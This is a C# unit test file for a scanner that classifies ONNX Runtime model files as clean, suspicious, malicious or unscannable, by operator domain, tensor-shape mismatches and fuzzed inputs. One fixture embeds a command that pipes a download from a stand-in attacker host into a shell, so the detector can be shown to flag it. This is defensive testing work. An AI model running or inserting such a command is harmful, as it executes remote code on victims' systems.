using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Core.Formats;
using SupplyChainAnalyzers.Scanner.Formats.Ort;
using SupplyChainAnalyzers.Scanner.Input;
using SupplyChainAnalyzers.Scanner.Scanning;
using SupplyChainAnalyzers.Scanner.Tests.Formats.FlatBuffers;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Graphs;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Ort;

public sealed class OrtScannerTests
{
    [Theory]
    [InlineData("Conv", "", Verdict.Clean)]
    [InlineData("FusedConv", "com.microsoft", Verdict.Clean)]
    [InlineData("Frobnicate", "com.example", Verdict.Suspicious)]
    [InlineData("PyOp", "ai.onnx.contrib", Verdict.Malicious)]
    [InlineData("EPContext", "com.microsoft", Verdict.Unscannable)]
    public void Operator_is_judged_as_in_onnx(string operation, string domain, Verdict verdict)
    {
        Is(verdict, Model(Graph(Node(operation, domain))));
        Is(verdict, Model(Graph(Node("If", "", new() { [0] = "then_branch", [7] = Graph(Node(operation, domain)) }))));
    }

    [Fact]
    public void Tensor_whose_shape_lies_is_malicious()
    {
        Is(Verdict.Clean, Model(Graph(Node("Conv", ""), Tensor(16, 2, 2))));
        Is(Verdict.Malicious, Model(Graph(Node("Conv", ""), Tensor(16, 2, 3))));
        Is(Verdict.Malicious, Model(Graph(Node("Conv", ""), Tensor(16, -1))));
    }

    [Fact]
    public void Command_in_an_attribute_is_malicious() =>
        Is(Verdict.Malicious, Model(Graph(Node("Conv", "", new() { [0] = "a", [5] = "curl http://evil.example/x | sh" }))));

    [Fact]
    public void Session_without_a_model_is_not_clean() => Is(Verdict.Unscannable, FlatBuilder.File("ORTM", new() { [0] = "5" }));

    [Fact]
    public void Mutated_models_never_stop_the_scanner() => Mutations.Run(
        [Model(Graph(Node("Conv", "", new() { [0] = "a", [5] = "text" }), Tensor(16, 2, 2)))],
        4000,
        static bytes => new OrtScanner().Scan(new MemorySource(bytes), ScanContext.ForFile("m.ort", new FindingSink(), Neighbours.None)));

    private static byte[] Model(Dictionary<int, object> graph) =>
        FlatBuilder.File("ORTM", new() { [0] = "5", [1] = new Dictionary<int, object> { [0] = 8L, [2] = "pytorch", [7] = graph, [9] = new object[] { new Dictionary<int, object> { [0] = "key", [1] = "value" } } } });

    private static Dictionary<int, object> Graph(Dictionary<int, object> node, Dictionary<int, object>? tensor = null) =>
        new() { [0] = tensor is null ? Array.Empty<object>() : [tensor], [2] = new object[] { node } };

    private static Dictionary<int, object> Node(string operation, string domain, Dictionary<int, object>? attribute = null) =>
        new() { [0] = "n1", [2] = domain, [5] = operation, [10] = attribute is null ? Array.Empty<object>() : [attribute] };

    private static Dictionary<int, object> Tensor(int bytes, params long[] shape) => new() { [0] = "w", [2] = shape, [3] = 1, [4] = new byte[bytes] };

    private static void Is(Verdict verdict, byte[] model)
    {
        var scanned = Scanned.Bytes(model, "m.ort");
        Assert.True(scanned.Verdict == verdict && scanned.Format == ModelFormats.Ort, scanned.ToString());
    }
}
